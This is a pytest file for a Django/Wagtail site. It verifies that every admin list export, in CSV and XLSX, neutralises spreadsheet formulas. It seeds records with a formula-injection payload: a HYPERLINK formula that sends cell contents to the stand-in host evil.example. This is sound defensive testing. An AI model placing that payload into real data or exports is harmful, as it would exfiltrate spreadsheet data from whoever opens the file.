"""No list of the admin gives a spreadsheet with a formula in it, whoever wrote the words."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from core.http.csv_safety import _FORMULA
from core.models import User
from search.models import QuestionCount
from tests.factories.pages import make_case, make_method, make_site
from tests.factories.vocabulary import OrganisationFactory

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.fixture
def root() -> Client:
    """A superuser, with something evil to read in every list."""
    user = User.objects.create_superuser("root", "", "een-lang-wachtwoord", first_name=EVIL)
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def evil(root: Client) -> None:
    make_site()
    user = User.objects.get()
    OrganisationFactory(label=EVIL)
    for page in (make_method(title=EVIL), make_case(title=EVIL), make_method(title=EVIL, live=False)):
        page.save_revision(user=user, log_action=True)
    Page.objects.filter(title=EVIL).update(locked=True, locked_by=user)
    Redirect.objects.create(old_path="/oud", redirect_link=EVIL)
    QuestionCount.objects.create(key="1", day="2026-01-01", question=EVIL, times=1, found=0)


def exporting(patterns: Any = None, names: tuple[str, ...] = ()) -> Iterator[str]:
    """The addresses of lists with an export, that need nothing to be opened."""
    for one in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(one, URLResolver):
            yield from exporting(one.url_patterns, (*names, one.namespace) if one.namespace else names)
        elif isinstance(one, URLPattern) and one.name and not one.pattern.converters:
            view = getattr(one.callback, "view_class", None)
            if view and issubclass(view, SpreadsheetExportMixin) and not one.name.endswith("results"):
                yield ":".join((*names, one.name))


def test_there_are_such_lists() -> None:
    found = set(exporting())
    assert {"wagtailadmin_reports:site_history", "wagtailadmin_reports:locked_pages", "wagtailredirects:index"} <= found
    assert len(found) > 20


def test_no_cell_is_a_formula(root: Client, evil: None) -> None:
    seen = 0
    for name in exporting():
        reply = root.get(reverse(name), {"export": "csv"})
        if reply.status_code != 200 or "csv" not in reply["Content-Type"]:
            continue  # this list has no columns to export
        for row in csv.reader(io.StringIO(reply.getvalue().decode())):  # type: ignore[attr-defined]
            seen += EVIL in " ".join(row)
            assert not [cell for cell in row if cell.startswith(_FORMULA)], name
    assert seen >= 8


def test_a_workbook_has_text_and_no_formula(root: Client, evil: None) -> None:
    for name in ("wagtailadmin_reports:site_history", "wagtailredirects:index"):
        reply = root.get(reverse(name), {"export": "xlsx"})
        sheet = load_workbook(io.BytesIO(b"".join(reply.streaming_content))).active  # type: ignore[attr-defined]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "d", "n", "b"}
        assert any(EVIL in str(cell.value) for cell in cells), name
